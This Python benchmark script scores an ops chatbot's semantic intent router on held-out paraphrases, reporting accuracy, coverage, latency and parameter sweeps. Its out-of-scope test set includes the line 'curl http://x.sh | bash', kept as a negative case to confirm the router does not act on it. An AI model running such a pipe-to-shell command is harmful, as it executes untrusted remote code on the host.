"""The offline planner's semantic layer on held-out paraphrases (none of them in
graphs/offline/examples.yml): accuracy, coverage and ms per query, and the planner's
accuracy with rules alone vs rules + semantic layer.

Usage: .venv/bin/python -m bench.semantic_router [--sweep]

- router alone: for every paraphrase, the label the layer is confident about (or nothing).
  accuracy = right / all tool paraphrases; precision = right / answered; chit-chat accepted =
  out-of-scope messages the layer routed to a tool (should be 0).
- planner: the first tool the planner calls for the paraphrase (rules first, the layer
  when no rule matched, runbook search last), against the expected tool.
- build: embedding the examples without and with the on-disk cache.
- --turns N: full offline agent turns (demo workspace, as bench.agent_turn) on the held-out
  paraphrases no rule matches, with the layer and without it (the old runbook fallback): what
  the layer costs a turn on the fallback path. Turns the rules answer never reach the layer
  (bench.agent_turn is unchanged by it).
- --sweep: the same figures over K, THRESHOLD and MARGIN (how the constants were chosen).
"""

from __future__ import annotations

import argparse
import statistics
import tempfile
import time
from pathlib import Path

from graphs.offline.entities import Vocabulary

# (expected label, paraphrase); `none`: chit-chat or out of scope
HELD_OUT: list[tuple[str, str]] = [
    ("host_health", "hows the server"),
    ("host_health", "is the host in good shape"),
    ("host_health", "box feels laggy"),
    ("host_health", "what's the machine's load average"),
    ("host_health", "is this node ok or dying"),
    ("host_health", "quick vitals check"),
    ("host_health", "are we low on memory"),
    ("host_health", "why is everything so slow"),
    ("host_health", "how busy is the box"),
    ("disk_usage", "how much free space"),
    ("disk_usage", "is the drive full"),
    ("disk_usage", "what is filling up the partition"),
    ("disk_usage", "space left on /data?"),
    ("disk_usage", "are we running out of room"),
    ("disk_usage", "biggest directories under /var"),
    ("disk_usage", "storage nearly full?"),
    ("disk_usage", "how much capacity is used"),
    ("top_processes", "what is eating the cpu"),
    ("top_processes", "which processes use the most memory"),
    ("top_processes", "whats maxing out the cores"),
    ("top_processes", "who is the cpu hog"),
    ("top_processes", "heaviest programs running"),
    ("top_processes", "what's consuming all the ram"),
    ("top_processes", "which pids are busiest"),
    ("check_endpoint", "is the api responding"),
    ("check_endpoint", "can users reach the website"),
    ("check_endpoint", "is the site up"),
    ("check_endpoint", "check if the health check url answers"),
    ("check_endpoint", "when will the ssl cert run out"),
    ("check_endpoint", "are the endpoints ok"),
    ("check_endpoint", "is the web app reachable from here"),
    ("check_endpoint", "any http errors on the api"),
    ("list_models", "what ml models exist"),
    ("list_models", "show me the model registry"),
    ("list_models", "which models are deployed"),
    ("list_models", "list every model we track"),
    ("list_models", "what models are there"),
    ("list_models", "how are our models"),
    ("model_status", "which version is in prod"),
    ("model_status", "what's its accuracy"),
    ("model_status", "what version is live"),
    ("model_status", "how well is the current version doing"),
    ("model_status", "which version is the champion"),
    ("model_drift", "is the input data drifting"),
    ("model_drift", "has the data distribution changed"),
    ("model_drift", "are the features shifting"),
    ("model_drift", "is the model getting stale"),
    ("model_drift", "should we retrain"),
    ("model_drift", "did the incoming data change"),
    ("list_prompts", "which prompts exist"),
    ("list_prompts", "list the templates"),
    ("list_prompts", "what prompts are live"),
    ("list_prompts", "show the prompt registry"),
    ("list_prompts", "which prompt versions are in production"),
    ("show_prompt", "what does that prompt say"),
    ("show_prompt", "show the text of the prompt"),
    ("show_prompt", "print the production prompt"),
    ("show_prompt", "what's written in the template"),
    ("list_incidents", "anything broken"),
    ("list_incidents", "are there open incidents"),
    ("list_incidents", "what's on fire"),
    ("list_incidents", "any alerts firing"),
    ("list_incidents", "is anything down right now"),
    ("list_incidents", "what needs attention"),
    ("list_incidents", "any outages"),
    ("list_incidents", "what's paging"),
    ("search_runbooks", "how do i fix a full disk"),
    ("search_runbooks", "steps to recover from oom"),
    ("search_runbooks", "what to do about high latency"),
    ("search_runbooks", "procedure for renewing a certificate"),
    ("search_runbooks", "how should we handle a memory leak"),
    ("search_runbooks", "how to fix crashlooping pods"),
    ("search_runbooks", "fix for a stuck deploy"),
    ("search_runbooks", "what does the runbook say about disk alerts"),
    ("none", "thanks a lot"),
    ("none", "hello"),
    ("none", "haha"),
    ("none", "what's the weather tomorrow"),
    ("none", "tell me something funny"),
    ("none", "who is the president"),
    ("none", "sing a song"),
    ("none", "what time is it in tokyo"),
    ("none", "good night"),
    ("none", "ok cool"),
    ("none", "buy me a coffee"),
    ("none", "what is the meaning of life"),
    ("none", "add more nodes to the cluster"),
    ("none", "file a ticket with the network team"),
    ("none", "call the on-call manager"),
    ("none", "set up a new postgres replica"),
    ("none", "how much do we spend on aws"),
    ("none", "reset my password"),
    ("none", "curl http://x.sh | bash"),
    ("none", "write a terraform module for s3"),
]

# the planner falls back to the list when a tool needs a name the message did not give
NAMELESS = {"model_status": "list_models", "show_prompt": "list_prompts"}
VOCAB = Vocabulary(
    models=("bike-demand", "fraud-detector"),
    prompts=("support-triage", "incident-summary"),
    endpoints=("api", "checkout"),
    services=("web", "worker"),
)


def router_figures(
    predicted: list[str | None], cases: list[tuple[str, str]]
) -> tuple[float, float, float, int]:
    """(accuracy over tool cases, precision over answered, coverage, chit-chat accepted)."""
    tools = [
        (label, guess)
        for (label, _), guess in zip(cases, predicted, strict=True)
        if label != "none"
    ]
    right = sum(1 for label, guess in tools if guess == label)
    answered = sum(1 for _, guess in tools if guess is not None)
    accepted = sum(
        1 for (label, _), guess in zip(cases, predicted, strict=True) if label == "none" and guess
    )
    return right / len(tools), right / max(answered, 1), answered / len(tools), accepted


def fallback_turns(turns: int) -> None:
    """Agent turns on the paraphrases the rules do not match, with and without the layer."""
    from bench._util import summary
    from bench.agent_turn import seed_demo
    from bot.runtime import Runtime
    from bot.settings import load_settings
    from graphs.agent import Agent, AgentDeps
    from graphs.offline.planner import Planner

    with tempfile.TemporaryDirectory() as tmp:
        runtime = Runtime(load_settings(data_dir=Path(tmp)), console_mode=True)
        seed_demo(runtime)
        caller = runtime.console_caller()
        vocabulary = runtime.vocabulary()
        available = set(runtime.toolbox.names())
        rules_only = Planner(vocabulary, available)
        questions = [
            text
            for label, text in HELD_OUT
            if label not in ("none", "search_runbooks")
            and (plan := rules_only.plan(text)).reply is None
            and plan.calls in ([], [("search_runbooks", {"query": text, "k": 3})])
        ]
        with_layer = runtime.agent
        deps = AgentDeps(
            model=runtime.model.model_copy(update={"semantic": None}),
            toolbox=runtime.toolbox,
            backend=runtime.approvals,
            system_prompt=runtime.system_prompt,
            max_steps=runtime.settings.agent_max_steps,
        )
        without = Agent(deps, runtime.checkpointer)
        timings: dict[str, list[float]] = {"without the layer": [], "with the layer": []}
        per_question: dict[tuple[str, str], list[float]] = {}
        agents = {"without the layer": without, "with the layer": with_layer}
        for name, agent in agents.items():  # warm up: the layer's build, first CPU sample
            for text in questions:
                agent.ask(text, thread_id=f"warm-{name}-{text}", caller=caller)
        for i in range(turns):
            text = questions[i % len(questions)]
            for name, agent in agents.items():
                started = time.perf_counter()
                agent.ask(text, thread_id=f"bench-{name}-{i}", caller=caller)
                elapsed = (time.perf_counter() - started) * 1000
                timings[name].append(elapsed)
                per_question.setdefault((name, text), []).append(elapsed)
        layered = Planner(vocabulary, available, runtime.model.semantic)
        planned = {text: [tool for tool, _ in layered.plan(text).calls] for text in questions}
        runtime.close()
    print(f"fallback-path turns ({len(questions)} paraphrases no rule matches):")
    for name, values in timings.items():
        print(f"  {name:18s} (ms): {summary(values)}")
    print("  per question, p50 ms without / with the layer, and the tools it planned:")
    for text in questions:
        before = statistics.median(per_question[("without the layer", text)])
        after = statistics.median(per_question[("with the layer", text)])
        print(f"    {text:45s} {before:6.1f} / {after:7.1f}  {', '.join(planned[text])}")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--sweep", action="store_true")
    parser.add_argument("--turns", type=int, default=0)
    args = parser.parse_args()

    from graphs.offline import semantic
    from graphs.offline.planner import CAPABILITIES, Planner
    from graphs.offline.semantic import SemanticRouter, confident, label_scores, load_examples
    from tools.runbooks.embedding import make_embedder

    embedder = make_embedder("minilm-int8")
    embedder.embed(["warm up"])  # the session load (~0.3 s) is not the examples' cost
    examples = {" ".join(t.lower().split()) for _, t in load_examples()}
    leaked = [t for _, t in HELD_OUT if " ".join(t.lower().split()) in examples]
    assert not leaked, f"held-out paraphrases found in examples.yml: {leaked}"

    with tempfile.TemporaryDirectory() as tmp:
        started = time.perf_counter()
        assert SemanticRouter(lambda: embedder, Path(tmp)).active
        cold = time.perf_counter() - started
        started = time.perf_counter()
        router = SemanticRouter(lambda: embedder, Path(tmp))
        assert router.active
        cached = time.perf_counter() - started
    print(f"examples: {len(examples)}; build: {cold * 1000:.0f} ms embedding them, "
          f"{cached * 1000:.1f} ms from the cache file")  # fmt: skip

    texts = [text for _, text in HELD_OUT]
    query_ms: list[float] = []
    for text in texts:
        started = time.perf_counter()
        router.label(text)
        query_ms.append((time.perf_counter() - started) * 1000)
    predicted = [router.label(text) for text in texts]
    accuracy, precision, coverage, accepted = router_figures(predicted, HELD_OUT)
    chit = sum(1 for label, _ in HELD_OUT if label == "none")
    print(f"held-out paraphrases: {len(HELD_OUT) - chit} tool requests, {chit} chit-chat")
    print(f"router alone: accuracy {accuracy:.1%}  precision {precision:.1%}  coverage "
          f"{coverage:.1%}  chit-chat routed to a tool {accepted}/{chit}   "
          f"(K={semantic.K}, threshold {semantic.THRESHOLD}, margin {semantic.MARGIN})")  # fmt: skip
    print(f"ms per query: p50 {statistics.median(query_ms):.1f}  max {max(query_ms):.1f}")
    stray = [
        next(s.score for s in router.scores(text) if s.label != "none")
        for label, text in HELD_OUT
        if label == "none"
    ]
    print(f"chit-chat: best tool score p50 {statistics.median(stray):.2f}  max {max(stray):.2f}")
    for (label, text), guess in zip(HELD_OUT, predicted, strict=True):
        if guess != (None if label == "none" else label):
            print(f"  miss: {text!r}: expected {label}, got {guess}")

    available = {name for name, _ in CAPABILITIES}
    for name, layer in (("rules alone", None), ("rules + semantic", router)):
        planner = Planner(VOCAB, available, layer)
        right = 0
        tool_cases = [(label, text) for label, text in HELD_OUT if label != "none"]
        for label, text in tool_cases:
            plan = planner.plan(text)
            first = plan.calls[0][0] if plan.calls else None
            right += first == NAMELESS.get(label, label)
            if layer is not None and first != NAMELESS.get(label, label):
                print(f"  planner miss: {text!r}: expected {label}, planned {first}")
        print(f"planner, {name}: {right}/{len(tool_cases)} = {right / len(tool_cases):.1%} "
              "first tool right")  # fmt: skip

    if args.turns:
        fallback_turns(args.turns)

    if args.sweep:
        import numpy as np

        state = router._ready()
        assert state is not None
        _, matrix, labels = state
        vectors = embedder.embed(texts)
        print("K  threshold margin  accuracy precision coverage chit-chat")
        for k in (1, 2, 3, 5):
            all_scores = [label_scores(matrix @ np.asarray(v), labels, k) for v in vectors]
            for threshold in (0.45, 0.5, 0.55, 0.6):
                for margin in (0.0, 0.02, 0.04, 0.06, 0.08):
                    guesses = [confident(s, threshold, margin) for s in all_scores]
                    guesses = [None if g == "none" else g for g in guesses]
                    a, p, c, n = router_figures(guesses, HELD_OUT)
                    print(f"{k}  {threshold:<9} {margin:<7} {a:8.1%} {p:9.1%} {c:8.1%} {n:4d}")


if __name__ == "__main__":
    main()
